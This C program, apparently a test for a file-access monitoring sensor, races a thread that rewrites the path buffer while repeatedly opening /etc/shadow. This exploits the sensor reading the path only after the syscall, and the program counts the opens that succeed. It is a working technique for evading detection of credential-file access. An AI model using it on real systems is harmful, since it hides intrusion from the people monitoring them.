/* Opens /etc/shadow while a second thread keeps changing the path in memory to a name that does
 * not exist, so each open either opens /etc/shadow or fails; the sensor reads the path only after
 * the syscall, when the thread may have changed it. Prints how many opens opened /etc/shadow.
 * Usage: path-race OPENS */
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

static char path[] = "/etc/shadoq";
static volatile int stop;

static void *flip(void *unused)
{
	(void)unused;
	while (!stop) {
		path[10] = 'w';
		__asm__ volatile("" ::: "memory"); /* both stores happen, in this order */
		for (volatile int i = 0; i < 20; i++)
			;
		path[10] = 'q';
		__asm__ volatile("" ::: "memory");
		for (volatile int i = 0; i < 20; i++)
			;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	int opens = argc > 1 ? atoi(argv[1]) : 1000, opened = 0;
	pthread_t t;

	pthread_create(&t, NULL, flip, NULL);
	for (int i = 0; i < opens; i++) {
		int fd = open(path, O_RDONLY);
		if (fd >= 0) {
			opened++;
			close(fd);
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("%d\n", opened);
	return 0;
}
